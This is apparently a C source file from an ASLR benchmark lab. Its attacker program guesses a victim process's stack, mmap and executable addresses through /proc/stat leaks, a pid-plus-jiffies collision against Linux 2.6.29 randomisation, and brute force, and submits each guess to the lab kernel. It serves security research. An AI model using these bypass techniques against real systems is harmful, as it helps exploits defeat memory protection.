/*
 * The attack lab's programs (kernel/attack/lab.c runs them):
 *   lab_attacker victim             a root daemon: sleeps in the kernel until the trial ends
 *   lab_attacker attack STRATEGY HZ [RULES]  the attacker, uid 1000: only system calls and /proc
 *   lab_attacker report             submits this process's own layout as a guess
 * Guesses go to the kernel with __NR_aslrbench_lab(SUBMIT, region, value), in
 * the order the attacker would try them.  HZ is the kernel's tick rate, which
 * an attacker knows from the distribution's published kernel configuration;
 * RULES (2.6.29 or 6.x, default 2.6.29) is the kernel's ASLR code, which the
 * attacker knows from its version.
 */
#include "userland/lib/aslrbench_user.h"

/*
 * collision: the pool has two children per jiffy the victim's start could
 * be (see candidates_max), so a child that misses its jiffy has a stand-in;
 * POOL_MAX bounds it at high HZ.
 */
#define POOL_MAX 32
#define PAGE	 4096ULL

static long lab(long op, long a, long b)
{
	return sys(__NR_aslrbench_lab, op, a, b);
}

static void submit(int region, uint64_t v)
{
	lab(LAB_OP_SUBMIT, region, (long)v);
}

static uint64_t hex(const char *s)
{
	uint64_t v = 0;

	for (;; s++) {
		if (*s >= '0' && *s <= '9')
			v = v * 16 + (uint64_t)(*s - '0');
		else if (*s >= 'a' && *s <= 'f')
			v = v * 16 + (uint64_t)(*s - 'a' + 10);
		else
			return v;
	}
}

/* Field k (1-based) of /proc/<pid>/stat, as a number; 0 when unreadable. */
static uint64_t stat_field(const char *pid, int k, char *state)
{
	char path[40], buf[1024], *p;
	int f = 2;

	snprintf(path, sizeof(path), "/proc/%s/stat", pid);
	if (read_file(path, buf, sizeof(buf)) <= 0)
		return 0;
	for (p = buf + strlen(buf); p > buf && *p != ')'; p--)
		;
	if (state)
		*state = p[2];
	for (p++; *p && f < k; p++)
		if (*p == ' ')
			f++;
	return (uint64_t)atol(p);
}

/* The exact jiffies, from /proc/timer_list (world-readable in 2.6.29). */
static uint64_t now_jiffies(void)
{
	char buf[256], *p;

	read_file("/proc/timer_list", buf, sizeof(buf));
	for (p = buf; *p; p++)
		if (!strncmp(p, "jiffies: ", 9))
			return (uint64_t)atol(p + 9);
	return 0;
}

static int is_victim(int pid)
{
	char path[40], buf[64];
	static const char victim[] = "lab_attacker\0victim";

	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	return read_file(path, buf, sizeof(buf)) == sizeof(victim) &&
	       !memcmp(buf, victim, sizeof(victim));
}

/* A process not seen before whose cmdline is the victim's; seen[] grows. */
static int scan_new_pids(int *seen, int *nseen)
{
	int pids[64];
	long n = sys(__NR_getdents_pids, pids, 64);

	for (long i = 0; i < n; i++) {
		int k = 0;

		while (k < *nseen && seen[k] != pids[i])
			k++;
		if (k < *nseen)
			continue;
		if (is_victim(pids[i]))
			return pids[i];
		if (*nseen < 64)
			seen[(*nseen)++] = pids[i];
	}
	return -1;
}

/*
 * The victim's pid: the process whose cmdline is "lab_attacker victim".  The kernel
 * spawns it as soon as we yield after READY, and hands out pids in order,
 * so `hint` (the next pid after our own processes) is all we probe at
 * first; every process is looked at (each once) only if that fails for a
 * while.  Polling yields rather than sleeps: a sleep costs two ticks, and
 * the collision's children have few to spare; probing one pid keeps the
 * pollers from starving the kernel's spawn of the victim.
 */
static int find_victim(long hz, int hint)
{
	uint64_t deadline = now_jiffies() + 10 * (uint64_t)hz;
	int seen[64], nseen = 0, v;

	for (unsigned round = 0;; round++) {
		for (int d = 0; hint > 0 && d < 4; d++)
			if (is_victim(hint + d))
				return hint + d;
		if ((hint <= 0 || round >= 64) && (v = scan_new_pids(seen, &nseen)) > 0)
			return v;
		if (round % 16 == 15 && now_jiffies() >= deadline)
			return -1;
		sys(__NR_sched_yield);
	}
}

static int rules_6x; /* the kernel's ASLR rules: 0 = 2.6.29, 1 = 6.x */

/* A maps line naming one of the special regions that are not the executable. */
static int special(const char *line, const char *end)
{
	static const char *const names[] = {"[vdso]", "[vvar]", "[heap]"};

	for (unsigned i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (end - line > 6 && end[-1] == ']' && !strncmp(end - 6, names[i], 6))
			return 1;
	return 0;
}

/* This process's layout from its own maps (always readable) and a probe mmap. */
static void own_layout(uint64_t *stack_top, uint64_t *mmap_base, uint64_t *exe)
{
	char maps[4096], *line = maps;
	long m;

	read_file("/proc/self/maps", maps, sizeof(maps));
	*exe = 0;
	*stack_top = 0;
	while (*line) {
		char *end = line;

		while (*end && *end != '\n')
			end++;
		/*
		 * The lowest mapping that is not the vDSO or the heap: 2.6.29 puts
		 * the vDSO below the executable when vdso_addr's hint falls inside
		 * [stack] (get_unmapped_area then searches down from mmap_base),
		 * 6.x always (no hint); 6.x moves a static PIE's brk to
		 * ELF_ET_DYN_BASE, below the mmap area.
		 */
		if (!*exe && !special(line, end))
			*exe = hex(line);
		if (end - line > 7 && !strncmp(end - 7, "[stack]", 7)) {
			char *dash = line;

			while (*dash != '-')
				dash++;
			*stack_top = hex(dash + 1);
		}
		line = *end ? end + 1 : end;
	}
	m = sys(__NR_mmap, 0, PAGE, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1,
		0); /* the first mapping sits right below mmap_base */
	*mmap_base = m > 0 ? (uint64_t)m + PAGE : 0;
	/*
	 * The probe lands under whatever was mapped top-down from mmap_base
	 * before it: the PIE (2.6.29: its first PT_LOAD alone, load_bias 0,
	 * binfmt_elf.c:839-847, the later segments above mmap_base; 6.x: a
	 * static PIE's whole span), and the vDSO and [vvar] when they were
	 * mapped with get_unmapped_area.  mmap_base is the end of that
	 * contiguous run, which under 2.6.29 stops at the PIE's first mapping.
	 */
	for (line = maps; *line;) {
		uint64_t start = hex(line);
		char *dash = line, *end = line;

		while (*dash && *dash != '-')
			dash++;
		while (*end && *end != '\n')
			end++;
		if (*dash && start == *mmap_base) {
			*mmap_base = hex(dash + 1);
			if (!rules_6x && start == *exe)
				break;
		}
		line = *end ? end + 1 : end;
	}
	if (m > 0)
		sys(__NR_munmap, (void *)m, PAGE);
}

static int report(void)
{
	uint64_t st, mb, ex;

	own_layout(&st, &mb, &ex);
	submit(LAB_STACK, st);
	submit(LAB_MMAP, mb);
	submit(LAB_EXE, ex);
	return 0;
}

/*
 * One uniform guess per region, in the ranges the kernel's rules allow
 * (profile from our own stack; kernel/mm/layout.c has the rules):
 * 2.6.29 keeps 20 stack bits on x86_64 (its 32-bit shift) and maps the exe
 * right below mmap_base; 6.x keeps 22 and leaves a 16 GiB + 9 MiB gap under
 * the stack.  The victim is a static PIE: both map it top-down below
 * mmap_base (2.6.29 its first segment, 6.x its span), so the exe guess is
 * the mmap guess less what our own exe puts there.
 */
static void brute_force(void)
{
	uint64_t st, mb, ex, r[3], top, mtop, span;
	int ia32, sbits;

	own_layout(&st, &mb, &ex);
	ia32 = st < (1ULL << 32);
	span = mb > ex ? mb - ex : 0; /* what our own exe maps below our mmap_base */
	top = ia32 ? 0xffffe000ULL : 0x7ffffffff000ULL;
	sbits = ia32 ? 11 : rules_6x ? 22 : 20;
	mtop = top - (128ULL << 20);
	if (rules_6x && !ia32)
		mtop = top - (8ULL << 20) - (0x3fffffULL * PAGE) - (1ULL << 20);
	sys(__NR_getrandom, r, sizeof(r), 0);
	submit(LAB_STACK, top - (r[0] & ((1ULL << sbits) - 1)) * PAGE);
	submit(LAB_MMAP, mtop - (r[1] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
	submit(LAB_EXE, mtop - (r[2] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE - span);
}

/*
 * The patch's leak: startstack bounds the stack top; kstkeip sits in the
 * victim's code.  Linux 6.12 never shows kstkeip (but of an exiting task);
 * to a reader it permits (here: proc_leak_fix=0) it shows start_code,
 * which is the code's place outright.
 */
static void proc_leak(const char *vpid)
{
	char state = 0;
	uint64_t ss, eip, own_eip, own_exe, dummy;

	for (int i = 0; i < 100000 && state != 'S'; i++) {
		stat_field(vpid, 3, &state); /* wait until it sleeps in the kernel */
		if (state != 'S')
			sys(__NR_sched_yield);
	}
	ss = stat_field(vpid, 28, 0);
	eip = stat_field(vpid, 30, 0);
	/* The same program's syscall site, relative to our own base. */
	own_eip = stat_field("self", 30, 0);
	if (!eip && !own_eip && stat_field(vpid, 26, 0) > 1) {
		eip = stat_field(vpid, 26, 0); /* start_code (6.12) */
		own_eip = stat_field("self", 26, 0);
	}
	own_layout(&dummy, &dummy, &own_exe);
	if (ss) {
		uint64_t top = (ss + PAGE - 1) & ~(PAGE - 1);

		/* argv, auxv and arch_align_stack's < 8 KiB lie between: three pages. */
		for (int k = 0; k < 3; k++)
			submit(LAB_STACK, top + (uint64_t)k * PAGE);
	}
	if (eip && own_eip)
		submit(LAB_EXE, eip - (own_eip - own_exe));
	if (!ss || !eip)
		brute_force(); /* the leak is closed: nothing better than a guess */
}

/*
 * Wakes in the tick that makes jiffies = target (nanosleep rounds up and
 * adds a tick, as Linux's does, and a timer wake-up runs first); the yield
 * loop covers a tick that passed between reading jiffies and sleeping.
 */
static void sleep_until_jiffy(uint64_t target, long hz)
{
	uint64_t now = now_jiffies();

	if (target > now + 1) {
		uint64_t ns = (target - now - 1) * 1000000000ULL / (uint64_t)hz;
		struct timespec ts = {(int64_t)(ns / 1000000000ULL), (int64_t)(ns % 1000000000ULL)};

		sys(__NR_nanosleep, &ts, 0);
	}
	while (now_jiffies() < target)
		sys(__NR_sched_yield);
}

/*
 * How many jiffies one centisecond of stat's start time can stand for, plus
 * one: the layout may be drawn a tick after the start is stamped.
 */
static long candidates_max(long hz)
{
	return (hz + 99) / 100 + 1;
}

/*
 * ipid-2.6.29 is a function of pid + jiffies: a process of ours whose pid +
 * jiffies at exec equals the victim's gets the victim's layout.  Children
 * forked before the victim have smaller pids; child idx takes one jiffy j
 * the victim may have started in (stat's start time is floor(j * 100 / hz)
 * centiseconds, Linux's jiffies_to_clock_t), waits until jiffies =
 * victim_pid + j - own_pid, and execs.  Knowing hz, the kernel's published
 * configuration, is all the attacker needs besides /proc.
 */
static void collision_child(int idx, long pool, long hz)
{
	/* report under the same rules, or its mmap_base is read the 2.6.29 way */
	char vpid[12], *argv[] = {"lab_attacker", "report", rules_6x ? "6.x" : "2.6.29", 0};
	int victim = find_victim(hz, (int)(sys(__NR_getpid) + pool - idx));
	uint64_t seen = now_jiffies(), cs, first, last, n, target;
	uint64_t initial = (uint32_t)(-300 * (int32_t)hz);

	/*
	 * Only a child whose pid is below the victim's can reach its pid +
	 * jiffies: when the pids wrapped (at 32768) between this child and the
	 * victim, the target would lie 2^64 jiffies ahead and the child would
	 * sleep forever (its parent, and the lab, waiting for it).
	 */
	if (victim < 0 || victim <= sys(__NR_getpid))
		exit(1);
	snprintf(vpid, sizeof(vpid), "%d", victim);
	cs = stat_field(vpid, 22, 0);
	/* stat counts from boot; jiffies from INITIAL_JIFFIES, (u32)(-300 * HZ) */
	first = initial + (cs * (uint64_t)hz + 99) / 100;      /* ceil(cs * hz / 100) */
	last = initial + ((cs + 1) * (uint64_t)hz + 99) / 100; /* the last, + a tick late */
	if (last > seen)
		last = seen; /* it had started when we saw it */
	n = last >= first ? last - first + 1 : 1;
	target = (uint64_t)victim + first + (uint64_t)idx % n - (uint64_t)sys(__NR_getpid);
	sleep_until_jiffy(target, hz);
	sys(__NR_execve, "/bin/lab_attacker", argv, 0);
	exit(1);
}

static int attack(const char *strategy, long hz)
{
	int status, victim;
	char vpid[12];

	if (!strcmp(strategy, "pid-jiffies-collision")) {
		long pool = 2 * candidates_max(hz);

		if (pool > POOL_MAX)
			pool = POOL_MAX;
		/*
		 * Run the children's path once first: our text is a file mapping
		 * filled as it is first run, and fork copies only what is mapped,
		 * so each child would otherwise fault the same pages on its own,
		 * ticks it does not have between seeing the victim and exec.
		 */
		is_victim((int)sys(__NR_getpid));
		stat_field("self", 22, 0);
		now_jiffies();
		for (int i = 0; i < pool; i++) {
			long pid = sys(__NR_fork);

			if (pid == 0)
				collision_child(i, pool, hz);
			if (pid < 0)
				break;
		}
		lab(LAB_OP_READY, 0, 0);
		while (sys(__NR_wait4, -1, &status, 0, 0) > 0)
			;
		return 0;
	}
	if (!strcmp(strategy, "state-replay")) {
		/* The latest layout we can observe is our own newest child's. */
		long pid =
			spawn("/bin/lab_attacker", (char *const[]){"lab_attacker", "report",
								   rules_6x ? "6.x" : "2.6.29", 0});

		if (pid > 0)
			sys(__NR_wait4, (int)pid, &status, 0, 0);
		lab(LAB_OP_READY, 0, 0);
		return find_victim(hz, (int)pid + 1) > 0 ? 0 : 1;
	}
	lab(LAB_OP_READY, 0, 0);
	victim = find_victim(hz, (int)sys(__NR_getpid) + 1);
	if (victim < 0)
		return 1;
	snprintf(vpid, sizeof(vpid), "%d", victim);
	if (!strcmp(strategy, "proc-leak"))
		proc_leak(vpid);
	else
		brute_force();
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 2 && !strcmp(argv[1], "victim"))
		return lab(LAB_OP_PARK, 0, 0) == 0 ? 0 : 1;
	if (argc >= 2 && !strcmp(argv[1], "report")) {
		rules_6x = argc >= 3 && !strcmp(argv[2], "6.x");
		return report();
	}
	if (argc >= 4 && !strcmp(argv[1], "attack") && atol(argv[3]) > 0) {
		rules_6x = argc >= 5 && !strcmp(argv[4], "6.x");
		return attack(argv[2], atol(argv[3]));
	}
	printf("usage: lab_attacker victim | lab_attacker report [2.6.29|6.x] | lab_attacker "
	       "attack STRATEGY HZ "
	       "[2.6.29|6.x]\n");
	return 2;
}
